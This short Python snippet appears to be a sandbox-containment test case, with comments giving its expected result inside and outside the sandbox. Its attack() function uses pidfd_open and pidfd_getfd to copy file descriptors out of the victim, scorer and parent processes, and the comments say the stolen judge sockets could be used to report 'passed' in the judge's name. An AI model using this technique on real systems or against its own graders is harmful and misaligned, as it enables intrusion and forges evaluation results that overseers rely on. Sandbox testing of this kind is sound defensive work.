# Gets a handle on other processes, and takes their descriptors out of them.
# With the judge's sockets one could say "passed" in its name.
# contained: passed
# in the open: as root
def attack():
    others = [pid for pid in (TARGET["victim"], TARGET["scorer"], os.getppid()) if pid != os.getpid()]

    def take(pid):
        handle = syscall("pidfd_open", pid, 0)
        got = [
            fd for fd in range(16) if first({"x": lambda fd=fd: syscall("pidfd_getfd", handle, fd, 0)})
        ]
        syscall("pidfd_send_signal", handle, 0, 0, 0)
        return got

    return first({str(pid): lambda pid=pid: take(pid) for pid in others})
